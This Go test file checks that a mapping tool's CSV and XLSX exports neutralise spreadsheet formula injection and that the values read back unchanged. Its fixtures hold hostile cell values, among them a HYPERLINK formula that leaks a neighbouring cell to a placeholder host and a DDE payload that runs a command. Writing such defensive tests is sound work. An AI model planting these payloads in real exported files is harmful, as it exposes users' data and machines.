package mapio

import (
	"bytes"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/actorgraph/actorgraph/domain"
)

// hyperlink is the finding's name: opened in a spreadsheet, it sends the
// cell beside it to another server when clicked.
const hyperlink = `=HYPERLINK("http://x/?"&B2,"Open")`

func TestNeutralise(t *testing.T) {
	t.Parallel()
	tests := []struct{ text, written string }{
		{hyperlink, "'" + hyperlink},
		{"=1+1", "'=1+1"},
		{"+33 6 12 34 56 78", "'+33 6 12 34 56 78"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"'=1", "''=1"},      // a text that begins as an escaped one: one quote more
		{"''+1", "'''+1"},    // and so on
		{"'plain", "'plain"}, // a quote before no trigger is text of its own
		{"'", "'"},
		{"it's =", "it's ="},
		{"a=b", "a=b"},
		{"", ""},
	}
	for _, tt := range tests {
		if got := neutralise(tt.text); got != tt.written {
			t.Errorf("neutralise(%q) = %q, want %q", tt.text, got, tt.written)
		}
		if got := unneutralise(tt.written); got != tt.text {
			t.Errorf("unneutralise(%q) = %q, want %q", tt.written, got, tt.text)
		}
	}
}

// hostileContents is a map whose texts a spreadsheet would run, beside
// numbers that are negative.
func hostileContents() *domain.Contents {
	return &domain.Contents{
		Sources: []*domain.Source{{ID: "s1", ExternalID: new("=src"), Title: "@title", Kind: "SURVEY", Sensitivity: domain.Restricted}},
		Actors: []*domain.Actor{
			{ID: "a1", ExternalID: new("-a1"), Kind: domain.KindCommunity, Name: hyperlink, Description: "+description",
				Region: "@region", Tags: []string{"-tag", "ok"}, SourceIDs: []string{"s1"}, Sensitivity: domain.Restricted,
				Custom: domain.Custom{"score": domain.NumberValue(-3), "motto": domain.TextValue("=2*3")},
				Layout: domain.Layout{X: new(-120.5), Y: new(-1e-7)}},
			{ID: "a2", ExternalID: new("a2"), Kind: domain.KindCommunity, Name: "'=already quoted", Sensitivity: domain.Restricted,
				Custom: domain.Custom{"score": domain.NumberValue(4)}},
			{ID: "a3", ExternalID: new("a3"), Kind: domain.KindCommunity, Name: "'plain quote", Sensitivity: domain.Restricted},
		},
		Relationships: []*domain.Relationship{
			{ID: "r1", ExternalID: new("r1"), Type: domain.Trusts, FromID: "a1", ToID: "a2", Strength: 0.5, Confidence: 0.9,
				PerceivedBy: new("-women"), Notes: "=cmd|' /C calc'!A0", Sensitivity: domain.Restricted},
			{ID: "r2", ExternalID: new("r2"), Type: domain.Trusts, FromID: "a2", ToID: "a3", Strength: 0, Confidence: 1,
				Notes: "\tnotes after a tab\n=and a formula on the next line", Sensitivity: domain.Restricted},
		},
	}
}

// exportedCSV is a file of a CSV export, parsed.
func exportedCSV(t *testing.T, c *domain.Contents, name string) [][]string {
	t.Helper()
	var b bytes.Buffer
	if err := CSVExport(c)(name, &b); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// Every cell of a CSV export that a spreadsheet would run as a formula
// is written with a leading quote, except the numbers of numeric columns,
// which stay numbers.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	c := hostileContents()
	want := map[string]map[string]string{ // file -> "row/column" -> cell
		"actors.csv": {
			"1/externalId": "'-a1", "1/name": "'" + hyperlink, "1/description": "'+description", "1/region": "'@region",
			"1/tags": "'-tag|ok", "1/sources": "'=src", "1/score": "-3", "1/motto": "'=2*3", "1/layout:x": "-120.5", "1/layout:y": "-0.0000001",
			"2/name": "''=already quoted", "2/score": "4", "3/name": "'plain quote",
		},
		"relationships.csv": {
			"1/from": "'-a1", "1/perceivedBy": "'-women", "1/notes": "'=cmd|' /C calc'!A0", "1/strength": "0.5",
			"2/notes": "'\tnotes after a tab\n=and a formula on the next line", "2/strength": "0",
		},
		"sources.csv": {"1/externalId": "'=src", "1/title": "'@title"},
	}
	for file, cells := range want {
		rows := exportedCSV(t, c, file)
		col := map[string]int{}
		for j, h := range rows[0] {
			col[h] = j
		}
		for at, w := range cells {
			row, name, _ := strings.Cut(at, "/")
			j, ok := col[name]
			if !ok {
				t.Fatalf("%s has no column %s: %q", file, name, rows[0])
			}
			if got := rows[int(row[0]-'0')][j]; got != w {
				t.Errorf("%s row %s column %s: %q, want %q", file, row, name, got, w)
			}
		}
		// And no cell anywhere is left to run.
		for i, row := range rows {
			for j, v := range row {
				if v != "" && strings.IndexByte(formulaTriggers, v[0]) >= 0 && !exportNumber.MatchString(v) {
					t.Errorf("%s row %d column %s: %q is written raw", file, i, rows[0][j], v)
				}
			}
		}
	}
}

// A CSV export imports as it was: texts that begin with each trigger, or
// with quotes, come back identical, and negative numbers as numbers.
func TestCSVRoundTripKeepsFormulaLookingTexts(t *testing.T) {
	t.Parallel()
	c := hostileContents()
	names := []string{"=1+1", "+plus", "-minus", "@at", "'=quoted", "''+twice", "'plain", "plain", "it's"}
	c.Actors = c.Actors[:1]
	for i, n := range names {
		c.Actors = append(c.Actors, &domain.Actor{ID: "n" + strconv.Itoa(i), Kind: domain.KindCommunity, Name: n, Description: n, Sensitivity: domain.Restricted})
	}
	c.Relationships = c.Relationships[:1]
	c.Relationships[0].ToID = "n0"
	for i, n := range names {
		c.Relationships = append(c.Relationships, &domain.Relationship{ID: "r" + strconv.Itoa(i+10), Type: domain.Trusts, FromID: "a1", ToID: "n" + strconv.Itoa(i),
			Strength: 0.5, Confidence: 1, Notes: n, PerceivedBy: new(n), Sensitivity: domain.Restricted})
	}
	read := func(file string) *Table {
		var b bytes.Buffer
		if err := CSVExport(c)(file, &b); err != nil {
			t.Fatal(err)
		}
		tb, ps := ReadTable(file, &b)
		if len(ps) > 0 {
			t.Fatal(ps)
		}
		return tb
	}
	actors, ps := ReadActors(read("actors.csv"))
	if len(ps) > 0 {
		t.Fatal(ps)
	}
	for i, a := range c.Actors {
		in := actors[i].Input
		if in.Name != a.Name || str(in.Description) != a.Description || str(in.Region) != a.Region {
			t.Errorf("actor %d: name %q description %q region %q, want %q %q %q", i, in.Name, str(in.Description), str(in.Region), a.Name, a.Description, a.Region)
		}
	}
	first := actors[0].Input
	if *first.Layout.X != -120.5 || *first.Layout.Y != -1e-7 || first.Custom["score"] != domain.NumberValue(-3) || first.Custom["motto"] != domain.TextValue("=2*3") ||
		strings.Join(first.Tags, ",") != "-tag,ok" || actors[0].SourceKeys[0] != "=src" || *first.ExternalID != "-a1" {
		t.Errorf("actor 1 reads back as %+v, sources %q", first, actors[0].SourceKeys)
	}
	rels, _, ps := ReadRelationships(read("relationships.csv"))
	if len(ps) > 0 {
		t.Fatal(ps)
	}
	for i, r := range c.Relationships {
		in := rels[i].Input
		if str(in.Notes) != r.Notes || str(in.PerceivedBy) != str(r.PerceivedBy) || rels[i].From != "-a1" {
			t.Errorf("relationship %d: notes %q perceivedBy %q from %q, want %q %q", i, str(in.Notes), str(in.PerceivedBy), rels[i].From, r.Notes, str(r.PerceivedBy))
		}
	}
}

// Workbooks need no quote: a formula-looking name is a text cell, which
// a spreadsheet shows and never runs, and reads back as it was.
func TestXLSXWritesFormulaLookingTextsAsText(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	if err := WriteXLSX(hostileContents(), &b); err != nil {
		t.Fatal(err)
	}
	wb, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer wb.Close()
	for _, cell := range []struct{ sheet, at, value string }{
		{"actors", "B2", hyperlink}, {"actors", "B3", "'=already quoted"}, {"relationships", "O2", "=cmd|' /C calc'!A0"},
	} {
		typ, err := wb.GetCellType(cell.sheet, cell.at)
		if err != nil {
			t.Fatal(err)
		}
		formula, _ := wb.GetCellFormula(cell.sheet, cell.at)
		value, _ := wb.GetCellValue(cell.sheet, cell.at)
		if (typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString) || formula != "" || value != cell.value {
			t.Errorf("%s!%s: type %v, formula %q, value %q; want the text %q", cell.sheet, cell.at, typ, formula, value, cell.value)
		}
	}
}
